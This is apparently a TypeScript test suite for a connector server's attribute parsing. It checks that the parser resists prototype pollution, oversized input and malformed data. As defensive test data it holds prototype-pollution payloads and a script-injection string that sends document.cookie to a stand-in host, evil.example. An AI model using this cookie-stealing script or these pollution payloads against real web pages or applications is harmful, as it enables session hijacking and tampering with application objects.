import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AttributeModel } from '../../../connector-server/src/attributes/attributes.ts';
import { attributesOf } from '../../../connector-server/src/attributes/attributesOf.ts';
import { boundedModel, MOST_BYTES } from '../../../connector-server/src/attributes/boundedModel.ts';
import { explainPath } from '../../../connector-server/src/attributes/explainPath.ts';
import { mergeModels } from '../../../connector-server/src/attributes/mergeModels.ts';
import { predefinedValues } from '../../../connector-server/src/attributes/predefinedValues.ts';
import { previewValues } from '../../../connector-server/src/attributes/preview.ts';
import { readValue, stepsOf } from '../../../connector-server/src/attributes/readValue.ts';
import { resolvePath } from '../../../connector-server/src/attributes/resolvePath.ts';
import { setPath } from '../../../connector-server/src/attributes/setPath.ts';
import { profileAttributes, visitAttributes } from '../../../connector-server/src/liveperson/decode/liveAttributes.ts';
import { chatAttributes, messagingAttributes } from '../../../connector-server/src/liveperson/historyAttributes.ts';

const about = {
  conversationId: 'c',
  account: '8',
  api: 'messaging' as const,
  startedAt: null,
  endedAt: null,
  source: '',
  skillId: null,
  skillName: null,
  consumerId: '',
  consumerName: '',
  agentId: null,
  agentName: null,
  closedBy: null,
  csat: null,
};
const sizeOf = (value: unknown): number => Buffer.byteLength(JSON.stringify(value));

describe('what comes from outside does no harm', () => {
  it.each(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'])(
    'a path through %s finds only what the model has of its own',
    (name) => {
      const model: AttributeModel = { info: { a: 'b' } };
      for (const path of [name, `info.${name}`, `info.${name}.polluted`, `info[${name}=x].a`])
        expect(resolvePath(model, stepsOf(path) ?? [])).toBeUndefined();
      expect(explainPath(model, `info.${name}`).state).toBe('dead');
      setPath(model, stepsOf(`${name}.polluted`) ?? [], 'yes');
      setPath(model, stepsOf(`info.${name}.polluted`) ?? [], 'yes');
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect((Object as unknown as Record<string, unknown>).polluted).toBeUndefined();
    },
  );

  it('names that mean something to JavaScript do not get in, however deep', () => {
    const nasty = JSON.parse('{"a":{"__proto__":{"polluted":1},"constructor":{"prototype":{"x":1}},"b":2}}') as unknown;
    const model = boundedModel(nasty);
    expect(model).toEqual({ a: { b: 2 } });
    const merged = mergeModels(nasty as AttributeModel, model);
    expect(JSON.stringify(merged)).toBe('{"a":{"b":2}}');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('scripts stay text', () => {
    const script = '"><script>fetch("//evil.example?"+document.cookie)</script>';
    const told = profileAttributes('c', { firstName: script, claims: { lp_sdes: [{ type: 'ctmrinfo', info: { ctype: script } }] } }); // prettier-ignore
    const attributes = attributesOf({ live: told }, about);
    expect(readValue(attributes, { value: 'customerType' })).toBe(script);
    expect(readValue(attributes, { value: 'profileFirstName' })).toBe(script);
  });

  it('a value of 16 KB, a thousand members, a list of 10,000 and nesting without end stay within 16 KB', () => {
    let deep: unknown = 'end';
    for (let level = 0; level < 2_000; level++) deep = { deep };
    const body = {
      firstName: 'x'.repeat(16_384),
      claims: {
        deep,
        ...Object.fromEntries(Array.from({ length: 1_000 }, (_one, at) => [`claim${at}`, 'y'.repeat(500)])),
        lp_sdes: Array.from({ length: 10_000 }, () => ({ type: 'ctmrinfo', info: { customerId: 'C'.repeat(300) } })),
      },
    };
    const told = profileAttributes('c', body);
    expect(sizeOf(told)).toBeLessThanOrEqual(MOST_BYTES);
    expect(readValue(attributesOf({ live: told }, about), { value: 'customerId' })).toBe('C'.repeat(300));
    const record = { info: { conversationId: 'c' }, sdes: { events: body.claims.lp_sdes }, conversationSurveys: body.claims.lp_sdes }; // prettier-ignore
    expect(sizeOf(messagingAttributes(record))).toBeLessThanOrEqual(MOST_BYTES);
  });

  it('a path over a list of 10,000 within lists of 10,000 comes back at once', () => {
    const inner = Array.from({ length: 10_000 }, (_one, at) => ({ name: `n${at}` }));
    const model: AttributeModel = { a: Array.from({ length: 10_000 }, () => ({ b: inner })) };
    const looks: number[] = [];
    resolvePath(model, stepsOf('a.b[name=none].c') ?? [], () => looks.push(1) < 0);
    expect(looks).toEqual([]);
    expect(explainPath(model, 'a.b[name=none].c').state).toBe('dead');
  });

  it('wrong types anywhere are no value and no error', () => {
    const junk = [null, 7, 'text', true, [], [[]], [null], {}, { events: 7 }, { events: [null, 7, [1]] }, Number.NaN];
    for (const one of junk) {
      expect(() =>
        messagingAttributes({ info: one, sdes: one, campaign: one, consumerParticipants: one }),
      ).not.toThrow();
      expect(() => chatAttributes({ info: one, sdes: one, surveys: one, visitorInfo: one })).not.toThrow();
      expect(() => visitAttributes({ context: one, campaignInfo: one })).not.toThrow();
      for (const body of [one, { claims: one, authenticatedData: { lp_sdes: one }, privateData: one, acr: one }]) {
        const attributes = attributesOf({ live: profileAttributes('c', body) }, about);
        for (const { id } of predefinedValues) expect(() => readValue(attributes, { value: id })).not.toThrow();
      }
    }
  });
});

describe('for any JSON at all', () => {
  it('what is kept is bounded, and kept again it is the same', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 6 }), (value) => {
        const kept = boundedModel(value);
        expect(sizeOf(kept)).toBeLessThanOrEqual(MOST_BYTES);
        expect(boundedModel(kept)).toEqual(kept);
      }),
    );
  });

  it('all values of any record are read without an error', () => {
    const members = fc.constantFrom('info', 'campaign', 'sdes', 'surveys', 'visitorInfo', 'consumerParticipants');
    fc.assert(
      fc.property(fc.dictionary(members, fc.jsonValue({ maxDepth: 5 })), (record) => {
        const attributes = attributesOf(
          { messaging_history: messagingAttributes(record), chat_history: chatAttributes(record) },
          about,
        );
        expect(previewValues(attributes)).toHaveLength(predefinedValues.length);
      }),
      { numRuns: 40 },
    );
  });
});

describe('the list of predefined values [MAP-04]', () => {
  it('has more than 55, each under a name of its own and with paths that can be read', () => {
    expect(predefinedValues.length).toBeGreaterThan(100);
    expect(new Set(predefinedValues.map(({ id }) => id)).size).toBe(predefinedValues.length);
    for (const { id, paths, label, group } of predefinedValues) {
      expect(id).toMatch(/^[a-z][A-Za-z]+$/);
      expect(label && group).toBeTruthy();
      for (const path of Object.values(paths).flat()) expect([path, stepsOf(path)]).not.toContain(null);
    }
  });

  it('an unknown name has no value', () => {
    expect(readValue(attributesOf({}, about), { value: 'no such value' })).toBeNull();
    expect(readValue(attributesOf({}, about), { value: '__proto__' })).toBeNull();
    expect(readValue(attributesOf({}, about), { paths: { widget: 'a[' } })).toBeNull();
  });
});

describe('no value', () => {
  it.each(['undefined', 'null', 'NA', 'N/A', 'Unassigned', '-1', -1, '', '  ', null, [], {}])('%j', (value) => {
    const told = { messagingHistory: { info: { latestAgentGroupName: value as never } } };
    expect(readValue(attributesOf({ messaging_history: told }, about), { value: 'agentGroup' })).toBeNull();
  });

  it.each(['Na', 'Null', 'na', '0', 0, false])('but %j is one', (value) => {
    const told = { messagingHistory: { info: { latestAgentGroupName: value as never } } };
    expect(readValue(attributesOf({ messaging_history: told }, about), { value: 'agentGroup' })).toBe(String(value));
  });
});
